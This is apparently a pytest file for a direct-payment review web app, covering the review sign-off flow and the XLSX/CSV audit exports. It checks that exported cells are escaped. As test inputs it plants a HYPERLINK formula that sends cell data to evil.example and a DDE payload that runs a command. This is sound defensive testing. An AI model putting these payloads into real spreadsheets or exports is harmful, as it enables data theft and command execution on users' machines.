"""The review pages: the officer starts, asks, decides and signs off; the holder's side sees
the question on the money page and answers it with a receipt; the audit pack and the
monitoring return downloaded and opened with openpyxl, cell by cell. Every page is checked
by tests/support/pagecheck.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from dpsupport.models import Attachment, Review, ReviewQuestion, Transaction
from dpsupport.services import caseload, records, reviews

from ..support.factories import create_holder, create_org, create_user, grant, post, sign_in
from ..support.scenario import PNG

TODAY = dt.date(2026, 11, 27)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'


@pytest.fixture(autouse=True)
def _today(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reviews, "today", lambda: TODAY)
    monkeypatch.setattr(caseload, "today", lambda: TODAY)


def _people(session):  # type: ignore[no-untyped-def]
    org = create_org(session)
    officer = create_user(session, org, "finance_officer", name="Fran Officer")
    rep = create_user(session, org, "representative", name="Dee Daughter")
    holder = create_holder(session, org, "Pat Jones", start=dt.date(2026, 4, 6))
    grant(session, holder, officer, "finance_officer")
    grant(session, holder, rep, "representative")
    account = records.main_account(session, holder)
    odd = Transaction(holder_id=holder.id, account_id=account.id, date=dt.date(2026, 5, 1),
                      amount_pence=-1234, payee=EVIL, description="@SUM(1+1)",
                      category="other")
    session.add(odd)
    session.commit()
    return officer, rep, holder, odd


def _date(prefix: str, day: dt.date) -> dict[str, str]:
    return {f"{prefix}-day": str(day.day), f"{prefix}-month": str(day.month),
            f"{prefix}-year": str(day.year)}


def test_a_review_from_start_to_sign_off_through_the_pages(app, session) -> None:  # type: ignore[no-untyped-def]
    officer, rep, holder, odd = _people(session)
    base = f"/holders/{holder.id}/reviews"
    fo = app.test_client()
    sign_in(fo, officer)
    page = fo.get(base)
    assert page.status_code == 200 and "Start a review" in page.get_data(as_text=True)
    # a period ending before it starts: the error summary, nothing saved
    bad = post(fo, f"{base}/start", {**_date("period_start", dt.date(2026, 10, 1)),
                                      **_date("period_end", dt.date(2026, 4, 6))})
    assert bad.status_code == 400
    assert "The end of the period must be the same as or after its start" in bad.get_data(
        as_text=True)
    assert session.scalar(select(Review)) is None
    session.rollback()
    started = post(fo, f"{base}/start", {**_date("period_start", dt.date(2026, 4, 6)),
                                         **_date("period_end", TODAY)})
    assert started.status_code == 302
    session.rollback()
    review = session.scalar(select(Review))
    assert review is not None
    shown = fo.get(f"{base}/{review.id}").get_data(as_text=True)
    assert "What we already know" in shown and "How we worked this out" in shown
    assert "Missing for 6 April 2026 to 27 November 2026" in shown
    asked = post(fo, f"{base}/{review.id}/ask", {"about": f"payment:{odd.id}",
                                                 "question": "What was this refund?"})
    assert asked.status_code == 302
    # a decision without the amount to recover is refused, with the field named
    refused = post(fo, f"{base}/{review.id}/decision", {"decision": "recover", "notes": "",
                                                         "recover_council": "",
                                                         "recover_contribution": ""})
    assert refused.status_code == 400
    assert 'href="#recover_council"' in refused.get_data(as_text=True)

    # the representative sees the question on the money page and answers with a receipt
    family = app.test_client()
    sign_in(family, rep)
    money_page = family.get(f"/holders/{holder.id}").get_data(as_text=True)
    assert "What was this refund?" in money_page and "Answer this question" in money_page
    session.rollback()
    question = session.scalar(select(ReviewQuestion))
    assert question is not None
    url = f"/holders/{holder.id}/reviews/questions/{question.id}/answer"
    assert family.get(url).status_code == 200
    # the officer may not answer for them
    assert post(fo, url, {"answer": "x"}).status_code == 403
    answered = post(family, url, {"answer": "A refund that went out by mistake",
                                  "file": (io.BytesIO(PNG), "receipt.png")},
                    content_type="multipart/form-data")
    assert answered.status_code == 302
    session.rollback()
    question = session.get(ReviewQuestion, question.id)
    assert question.answer == "A refund that went out by mistake"
    receipt = session.get(Attachment, question.attachment_id)
    assert receipt is not None and receipt.transaction_id == odd.id
    # ...and cannot start, decide or sign off
    assert post(family, f"{base}/{review.id}/sign-off").status_code == 403

    done = post(fo, f"{base}/{review.id}/decision", {"decision": "recover", "notes": "Mistake",
                                                      "recover_council": "10.00",
                                                      "recover_contribution": "2.34"})
    assert done.status_code == 302
    assert post(fo, f"{base}/{review.id}/sign-off").status_code == 302
    session.rollback()
    review = session.get(Review, review.id)
    assert review.status == "signed_off" and review.recover_council_pence == 1000
    final = family.get(f"{base}/{review.id}").get_data(as_text=True)
    assert "Signed off" in final and "£10.00 of the council" in final
    assert "Record the decision" not in final


def _pack(client, holder_id: int, kind: str):  # type: ignore[no-untyped-def]
    response = client.get(f"/holders/{holder_id}/reviews/audit-pack.{kind}"
                          "?start=2026-04-06&end=2026-11-27")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    return response


def test_the_audit_pack_opened_cell_by_cell(app, session) -> None:  # type: ignore[no-untyped-def]
    officer, _rep, holder, odd = _people(session)
    client = app.test_client()
    sign_in(client, officer)
    book = load_workbook(io.BytesIO(_pack(client, holder.id, "xlsx").data))
    assert book.sheetnames == ["Summary", "Transactions", "Flags and answers", "Receipts",
                               "Review"]
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (
                        ws.title, cell.coordinate, cell.value)
                assert not isinstance(cell.value, float) or cell.number_format == "#,##0.00"
    rows = list(book["Transactions"].iter_rows(values_only=True))
    assert rows[0] == ("Date", "Payee", "Bank description", "Amount (£)", "Sorted as",
                       "Receipts")
    evil = next(r for r in rows if r[1] and EVIL in r[1])
    assert evil[1] == "'" + EVIL and evil[2] == "'@SUM(1+1)"
    assert Decimal(str(evil[3])) == Decimal("-12.34")
    assert evil[0].date() == dt.date(2026, 5, 1)
    summary = {r[0]: r for r in book["Summary"].iter_rows(values_only=True)}
    assert summary["Holder"][1] == "Pat Jones"
    assert Decimal(str(summary["Balance today"][2])) == Decimal("537.66")
    assert Decimal(str(summary["Money out during the period"][2])) == Decimal("462.34")

    text = _pack(client, holder.id, "csv").get_data(as_text=True)
    assert text.startswith("\ufeffSummary\r\n")  # Excel reads it as UTF-8
    text = text.removeprefix("\ufeff")
    lines = list(csv.reader(io.StringIO(text)))
    assert ["Transactions"] in lines
    evil_line = next(line for line in lines if len(line) > 1 and EVIL in line[1])
    assert evil_line == ["2026-05-01", "'" + EVIL, "'@SUM(1+1)", "-12.34", "Other", "0"]
    for line in lines:
        for value in line:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                Decimal(value)  # only amounts start with a minus: numbers, never formulas


def test_the_monitoring_return_and_reviews_due(app, session) -> None:  # type: ignore[no-untyped-def]
    officer, rep, holder, _odd = _people(session)
    org = holder.organisation
    named = create_holder(session, org, "=cmd|' /C calc'!A0", start=dt.date(2026, 4, 6))
    grant(session, named, officer, "finance_officer")
    session.commit()
    caseload.refresh_all(session, on=TODAY)
    client = app.test_client()
    sign_in(client, officer)
    due = client.get("/reviews-due").get_data(as_text=True)
    assert "Pat Jones" in due and "Overdue" in due
    assert "Reviews due" in client.get("/holders").get_data(as_text=True)
    response = client.get("/monitoring-return.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data))["Monitoring return"]
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]][:5] == ["Holder", "Funder", "Scheme", "Figures as of",
                                              "Balance (£)"]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    by_name = {r[0].value: r for r in rows[1:]}
    assert set(by_name) == {"Pat Jones", "'=cmd|' /C calc'!A0"}
    pat = by_name["Pat Jones"]
    assert Decimal(str(pat[4].value)) == Decimal("537.66") and pat[4].data_type == "n"
    assert pat[11].value == "No review yet"
    csv_text = client.get("/monitoring-return.csv").get_data(as_text=True)
    assert "'=cmd|' /C calc'!A0" in csv_text and "\n=" not in csv_text
    # the representative reviews nobody: an empty return, and no link on their list
    family = app.test_client()
    sign_in(family, rep)
    empty = list(csv.reader(io.StringIO(family.get("/monitoring-return.csv")
                                        .get_data(as_text=True))))
    assert len(empty) == 1
    assert "No reviews are due" in family.get("/reviews-due").get_data(as_text=True)
    assert 'href="/reviews-due"' not in family.get("/holders").get_data(as_text=True)


def test_long_lists_are_numbered_pages_with_previous_and_next(app) -> None:  # type: ignore[no-untyped-def]
    template = app.jinja_env.from_string(
        '{% import "macros/pages.html" as pages %}'
        '{{ pages.numbered(page, total, "Pages of reviews due", "funder.due") }}')
    with app.test_request_context("/reviews-due?page=2"):
        middle = template.render(page=2, total=3)
        only = template.render(page=1, total=1)
    assert 'aria-label="Pages of reviews due"' in middle and "Page 2 of 3" in middle
    assert 'href="/reviews-due?page=1" rel="prev"' in middle
    assert 'href="/reviews-due?page=3" rel="next"' in middle
    assert "govuk-pagination" not in only  # one page: no page links at all
